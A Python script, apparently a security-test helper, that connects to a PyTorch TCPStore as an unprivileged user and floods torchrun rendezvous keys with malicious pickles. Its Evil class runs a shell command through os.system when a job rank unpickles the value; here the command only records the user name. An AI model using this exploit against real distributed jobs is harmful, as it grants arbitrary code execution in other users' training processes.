"""A stranger to a job, as a program: connects to the store where its ranks meet, and writes pickles under the store's keys.

Arguments: a file that whoever reads one of the pickles makes; a part of the names of keys to write; the store's port.
Started by root, it becomes another user: where Python itself is root's alone, nobody else can start it. It prints each key that it
wrote, until its standard input ends.
"""

import base64
import contextlib
import datetime
import os
import pickle
import select
import socket
import sys

from torch.distributed import DistError, TCPStore  # pyright: ignore[reportPrivateImportUsage]

NOBODY = 65534
GUESSED = (
    "torch.rendezvous.7-0", "torch.rendezvous.attempt", "torchelastic/role_info/0", "torchelastic/role_info/1",
    "torchelastic/assigned_ranks/1", "default_pg/0//worker_count", "start 0/default_pg/0//0//0",
)  # fmt: skip
"""Keys that torchrun's meeting and ours have had: the first is where its c10d rendezvous keeps its state."""


class Evil:
    """What is read as this runs a command, as the reader."""

    def __init__(self, marker: str) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, (f"id -un >> {self._marker}",))


def attack(store: TCPStore, values: list[bytes], wanted: str) -> None:
    """Write every value under every key."""
    for key in sorted({*GUESSED, *store.list_keys()}):
        if wanted in key:
            for value in values:
                store.set(key, value)  # pyright: ignore[reportArgumentType]: bytes are taken
            print(f"wrote {key}", flush=True)


def main() -> None:
    """Attack until told to stop, from the store's first moment to its last."""
    marker, wanted, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    socket.getaddrinfo("127.0.0.1", port)  # it imports, which another user may not be able to
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    evil = pickle.dumps(Evil(marker))
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0.02)[0]:
        with contextlib.suppress(OSError, DistError):
            socket.create_connection(("127.0.0.1", port), timeout=1).close()  # torch's own tries take longer
            store = TCPStore("127.0.0.1", port, None, False, datetime.timedelta(seconds=1), wait_for_workers=False)
            while not select.select([sys.stdin], [], [], 0.02)[0]:
                attack(store, [evil, base64.b64encode(evil)], wanted)


if __name__ == "__main__":
    main()
